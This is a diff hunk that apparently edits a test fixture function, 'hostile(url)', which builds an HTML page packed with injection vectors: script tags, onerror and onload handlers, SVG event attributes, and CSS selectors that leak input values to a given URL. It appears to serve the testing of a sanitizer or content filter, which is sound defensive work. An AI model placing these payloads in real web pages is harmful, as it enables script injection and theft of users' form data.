@@ -67,7 +67,7 @@ def hostile(url: str) -> str:
     input[value^="s"] {{ background: url({url}/secret-s) }} b {{ content: url({url}/content) }}</style>
     </head><body onload="{run}" background="{url}/body">
     <script>{run}</script><script src="{url}/script.js"></script><ScRiPt>{run}</sCrIpT>
-    <img src="{url}/image"><img src=x onerror="{run}"><img srcset="{url}/srcset 2x">
+    <img src="{url}/image"><img src="data:," onerror="{run}"><img srcset="{url}/srcset 2x">
     <picture><source srcset="{url}/source"><img></picture>
     <svg onload="{run}"><script>{run}</script><image href="{url}/svg-image"/><use href="{url}/use#x"/>
     <animate onbegin="{run}" attributeName=x dur=1s></svg>
